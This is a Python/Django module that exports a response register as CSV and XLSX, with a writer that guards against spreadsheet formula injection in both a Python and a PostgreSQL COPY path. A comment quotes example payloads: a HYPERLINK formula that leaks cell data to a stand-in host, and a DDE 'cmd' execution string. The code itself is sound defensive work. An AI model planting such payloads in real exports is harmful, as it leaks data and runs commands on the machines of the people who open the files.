"""The response register as CSV and XLSX, and the formula-safe CSV writer every export uses.

Columns (DESIGN.md, "The surface others rely on"): `inspection, publication_types, force, body, published_on,
deadline, statutory_last_day, status, days_left`, then one column per checklist step (its key; the ISO date the step
was done, empty if not done), in step order, then `published_url`.

- `published_on` is the report's publication date (the date the deadlines count from);
- `force` is the force of the responding body; `body` its full name;
- `status` is the stored status, or `overdue` while open past the statutory last day;
- `days_left` counts to the statutory last day (negative once past it); empty once the response is published.

Two writers produce the same text. On PostgreSQL the database writes the CSV itself (`COPY (SELECT ...) TO STDOUT`,
the formula neutralising done in SQL by `sql_csv_text`): several times the rows per second of Python, in flat memory.
Elsewhere (SQLite) `csv_stream` writes it from plain value tuples. tests/exports/test_postgres_writer.py holds the
two to the same output, hostile text included. Lines end in LF, as PostgreSQL writes them.
"""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import tempfile
from collections import defaultdict
from collections.abc import Iterable, Iterator, Sequence
from typing import IO, Any

from django.core.exceptions import EmptyResultSet
from django.db import connection, transaction
from django.db.models import Max, Q, QuerySet
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

from inspections.models import Force, Inspection, LocalPolicingBody, PublicationType
from responses import deadlines
from responses.models import OPEN_STATUSES, ChecklistItem, ChecklistStep, Response

REGISTER_COLUMNS = (
    "inspection",
    "publication_types",
    "force",
    "body",
    "published_on",
    "deadline",
    "statutory_last_day",
    "status",
    "days_left",
)
REGISTER_LAST_COLUMN = "published_url"
REGISTER_CHUNK_SIZE = 2000
OVERDUE = "overdue"

CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# Formula injection (CSV injection): a spreadsheet reads a cell starting with one of these as a formula, so a hostile
# inspection title, comment or evidence reference such as `=HYPERLINK("https://evil.example?"&A1,"Click")` or
# `@SUM(1+1)*cmd|' /C calc'!A0` would run, or leak other cells, when an officer opens the export. Tab and carriage
# return count because some spreadsheets skip them and then read the `=` that follows. A leading apostrophe is the
# spreadsheet convention for "this is text" (OWASP's recommendation); the value stays readable and is never evaluated.
# Only text is neutralised: numbers we computed (days_left, a negative number) and dates are written as they are.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: str) -> str:
    return "'" + value if value.startswith(FORMULA_TRIGGERS) else value


def csv_cell(value: Any) -> str | int:
    # Text first: nearly every cell of an export is text, and this runs for every cell of a million rows.
    if type(value) is str:
        return "'" + value if value.startswith(FORMULA_TRIGGERS) else value
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, int):
        return value
    if isinstance(value, dt.date):
        return value.isoformat()
    return neutralise(str(value))


class _Echo:
    """A file-like object that hands back what is written: csv.writer then returns each line (Django's
    "Streaming large CSV files" recipe)."""

    def write(self, value: str) -> str:
        return value


BATCH_CHARS = 64 * 1024


def csv_stream(
    header: Sequence[str], rows: Iterable[Sequence[Any]], *, batch_chars: int = BATCH_CHARS
) -> Iterator[str]:
    """Yield a formula-safe CSV document in pieces of about `batch_chars`; memory stays flat whatever the row count."""
    writer = csv.writer(_Echo(), lineterminator="\n")
    batch: list[str] = [writer.writerow([csv_cell(name) for name in header])]
    size = len(batch[0])
    for row in rows:
        line = writer.writerow([csv_cell(value) for value in row])
        batch.append(line)
        size += len(line)
        if size >= batch_chars:
            yield "".join(batch)
            batch, size = [], 0
    if batch:
        yield "".join(batch)


# --- PostgreSQL writes the CSV -------------------------------------------------------------------------------------
def uses_postgres_writer() -> bool:
    return connection.vendor == "postgresql"


def sql_csv_text(expression: str) -> str:
    """SQL for a text cell exactly as `csv_cell` writes it: NULL (written empty) for NULL or '', and a leading
    apostrophe before a formula trigger. `expression` is repeated, so pass a column, not a computation."""
    # ascii() reads the first character's code without making a new string (left(x, 1) did, for every cell).
    triggers = ", ".join(str(ord(char)) for char in FORMULA_TRIGGERS)
    return (
        f"(CASE WHEN {expression} = '' THEN NULL WHEN ascii({expression}) IN ({triggers}) "
        f"THEN '''' || {expression} ELSE {expression} END)"
    )


# For an export's COPY alone: dates written as YYYY-MM-DD (a date column is selected as it is, no to_char); sorting
# in memory rather than on disk; one process, since parallel workers on a small machine took the CPUs the web
# requests and the export's own reader needed (100,000 register rows: 1.8 s -> 1.2 s).
COPY_SETTINGS = {"DateStyle": "ISO, YMD", "work_mem": "64MB", "max_parallel_workers_per_gather": "0"}
# A COPY's output is held in memory up to this size, on disk beyond, until it is sent.
SPOOL_MEMORY = 8 * 1024 * 1024


def copy_csv(query: str, params: Sequence[Any], *, batch_chars: int = BATCH_CHARS) -> Iterator[str]:
    """Yield the CSV PostgreSQL writes for `query` (no header), in pieces of about `batch_chars`.

    The COPY runs to its end first, into a temporary file (in memory up to SPOOL_MEMORY, on disk beyond), in a
    short transaction of its own; only then is the file sent. So a slow or abandoned download holds no statement,
    transaction, snapshot or lock in the database (a `migrate` waiting for a lock would otherwise queue every query
    behind it), and memory stays flat. Pieces are decoded incrementally: one may end inside a UTF-8 character.
    """
    with tempfile.SpooledTemporaryFile(max_size=SPOOL_MEMORY) as spool:
        _copy_into(spool, query, params)
        spool.seek(0)
        decoder = codecs.getincrementaldecoder("utf-8")()
        while piece := spool.read(batch_chars):
            yield decoder.decode(piece)
        tail = decoder.decode(b"", final=True)
        if tail:
            yield tail


def _copy_into(file: IO[bytes], query: str, params: Sequence[Any]) -> None:
    names = list(COPY_SETTINGS)
    setting = ", ".join("set_config(%s, %s, true)" for _ in names)
    with transaction.atomic(), connection.cursor() as cursor:
        cursor.execute(f"SELECT {', '.join('current_setting(%s)' for _ in names)}", names)
        previous = cursor.fetchone()
        cursor.execute(f"SELECT {setting}", [item for pair in COPY_SETTINGS.items() for item in pair])
        with cursor.cursor.copy(f"COPY ({query}) TO STDOUT WITH (FORMAT csv)", params) as copy:
            batch: list[bytes] = []  # COPY sends a message a row: written to the file 64 KB at a time
            size = 0
            for block in copy:
                batch.append(bytes(block))
                size += len(block)
                if size >= BATCH_CHARS:
                    file.write(b"".join(batch))
                    batch, size = [], 0
            file.write(b"".join(batch))
        # Called inside a transaction, this block is a savepoint and set_config(..., true) would outlast it.
        cursor.execute(f"SELECT {setting}", [item for pair in zip(names, previous, strict=True) for item in pair])


def header_line(header: Sequence[str]) -> str:
    return next(csv_stream(header, ()))


# --- the register ---------------------------------------------------------------------------------------------------
def register_steps() -> list[ChecklistStep]:
    return list(ChecklistStep.objects.order_by("order", "id"))


def register_header(steps: Sequence[ChecklistStep]) -> list[str]:
    return [*REGISTER_COLUMNS, *(step.key for step in steps), REGISTER_LAST_COLUMN]


def register_values(
    responses: QuerySet[Response], steps: Sequence[ChecklistStep]
) -> QuerySet[Response, tuple[Any, ...]]:
    """One row of plain values per response, from one query, with the date each checklist step was done by
    conditional aggregation over the done items. No model instances: the rows stream from one server-side cursor."""
    done_on = {
        f"step_{step.pk}": Max("checklist_items__done_on", filter=Q(checklist_items__step_id=step.pk)) for step in steps
    }
    # Over the chosen responses by id, not on `responses` itself: a caller's filter through a join (checklist items,
    # publication types) would otherwise narrow the aggregates, or repeat rows.
    chosen = Response.objects.filter(pk__in=responses.order_by().values("pk"))
    return (
        chosen.annotate(**done_on)
        .order_by("statutory_last_day", "inspection__title", "body__name", "id")
        .values_list(
            "inspection_id",
            "inspection__title",
            "body__force__name",
            "body__name",
            "inspection__published_on",
            "deadline",
            "statutory_last_day",
            "status",
            "published_url",
            *done_on,
        )
    )


def register_publication_types(responses: QuerySet[Response]) -> dict[int, str]:
    """Each inspection's publication types, joined in name order, for the inspections of these responses: one
    query, and one short string per inspection (thousands, not one per row)."""
    names: dict[int, list[str]] = defaultdict(list)
    links = Inspection.publication_types.through.objects.filter(inspection_id__in=responses.values("inspection_id"))
    for inspection_id, name in links.order_by("publicationtype__name").values_list(
        "inspection_id", "publicationtype__name"
    ):
        names[inspection_id].append(name)
    return {inspection_id: "; ".join(kinds) for inspection_id, kinds in names.items()}


def register_rows(
    responses: QuerySet[Response], *, today: dt.date, steps: Sequence[ChecklistStep] | None = None
) -> Iterator[list[Any]]:
    """One row per response, typed (dates as dates, days_left as int); the writers format them."""
    steps = register_steps() if steps is None else steps
    types = register_publication_types(responses)
    for row in register_values(responses, steps).iterator(chunk_size=REGISTER_CHUNK_SIZE):
        inspection_id, title, force, body, published_on, deadline, last_day, status, url = row[:9]
        is_open = status in OPEN_STATUSES
        yield [
            title,
            types.get(inspection_id, ""),
            force,
            body,
            published_on,
            deadline,
            last_day,
            OVERDUE if is_open and today > last_day else status,
            deadlines.days_left(last_day, today) if is_open else None,
            *row[9:],
            url,
        ]


def register_csv(responses: QuerySet[Response], *, today: dt.date) -> Iterator[str]:
    steps = register_steps()
    if uses_postgres_writer():
        return register_csv_postgres(responses, today=today, steps=steps)
    return register_csv_python(responses, today=today, steps=steps)


def register_csv_python(
    responses: QuerySet[Response], *, today: dt.date, steps: Sequence[ChecklistStep] | None = None
) -> Iterator[str]:
    steps = register_steps() if steps is None else steps
    return csv_stream(register_header(steps), register_rows(responses, today=today, steps=steps))


def register_csv_postgres(
    responses: QuerySet[Response], *, today: dt.date, steps: Sequence[ChecklistStep] | None = None
) -> Iterator[str]:
    """The register written by PostgreSQL: the rows of `register_rows`, in its order, as `csv_stream` writes them."""
    steps = register_steps() if steps is None else steps
    yield header_line(register_header(steps))
    try:
        chosen, chosen_params = responses.order_by().values("id").query.sql_with_params()
    except EmptyResultSet:  # responses.none(): a user without a body
        return
    yield from copy_csv(_register_sql(steps, chosen), [today, today, *chosen_params])


def _register_sql(steps: Sequence[ChecklistStep], chosen: str) -> str:
    """One row per response of `chosen` (SQL selecting response ids); two parameters (today) come before its own."""
    open_statuses = ", ".join(f"'{status}'" for status in OPEN_STATUSES)  # enum values: lower-case letters and _
    done_on = "".join(
        f", max(done_on) FILTER (WHERE step_id = {int(step.pk)}) AS step_{n}" for n, step in enumerate(steps)
    )
    step_columns = "".join(f", c.step_{n}" for n in range(len(steps)))
    # Only table names, constants and step ids are formatted in; every value a user chose is a parameter.
    return f"""
        SELECT {sql_csv_text("i.title")}, {sql_csv_text("pt.names")}, {sql_csv_text("f.name")},
               {sql_csv_text("b.name")}, i.published_on, r.deadline, r.statutory_last_day,
               CASE WHEN r.status IN ({open_statuses}) AND r.statutory_last_day < %s::date THEN '{OVERDUE}'
                    ELSE r.status END,
               CASE WHEN r.status IN ({open_statuses}) THEN r.statutory_last_day - %s::date END
               {step_columns},
               {sql_csv_text("r.published_url")}
        FROM {Response._meta.db_table} r
        JOIN {Inspection._meta.db_table} i ON i.id = r.inspection_id
        JOIN {LocalPolicingBody._meta.db_table} b ON b.id = r.body_id
        JOIN {Force._meta.db_table} f ON f.id = b.force_id
        LEFT JOIN (
            SELECT l.inspection_id, string_agg(k.name, '; ' ORDER BY k.name) AS names
            FROM {Inspection.publication_types.through._meta.db_table} l
            JOIN {PublicationType._meta.db_table} k ON k.id = l.publicationtype_id
            GROUP BY l.inspection_id
        ) pt ON pt.inspection_id = r.inspection_id
        LEFT JOIN (
            SELECT response_id {done_on} FROM {ChecklistItem._meta.db_table} GROUP BY response_id
        ) c ON c.response_id = r.id
        WHERE r.id IN ({chosen})
        ORDER BY r.statutory_last_day, i.title, b.name, r.id
    """  # noqa: S608


def register_xlsx(responses: QuerySet[Response], *, today: dt.date, file: IO[bytes]) -> None:
    """Write the register as an .xlsx workbook to `file`. openpyxl's write-only mode keeps rows on disk, not in
    memory; the workbook can only be zipped once complete, so the caller streams the finished file."""
    steps = register_steps()
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("Register")
    sheet.freeze_panes = "B2"
    sheet.append([_xlsx_cell(sheet, name) for name in register_header(steps)])
    for row in register_rows(responses, today=today, steps=steps):
        sheet.append([_xlsx_cell(sheet, value) for value in row])
    workbook.save(file)


def _xlsx_cell(sheet: WriteOnlyWorksheet, value: Any) -> WriteOnlyCell | Any:
    if value is None or isinstance(value, bool | int):
        return value
    if isinstance(value, dt.date):
        cell = WriteOnlyCell(sheet, value=value)
        cell.number_format = "yyyy-mm-dd"
        return cell
    # Characters XML cannot hold would make openpyxl raise; drop them. Then neutralise as in the CSV, and type the
    # cell as text so that not even a value openpyxl would take for a formula can become one.
    text = neutralise(ILLEGAL_CHARACTERS_RE.sub("", str(value)))
    cell = WriteOnlyCell(sheet, value=text)
    cell.data_type = "s"
    return cell
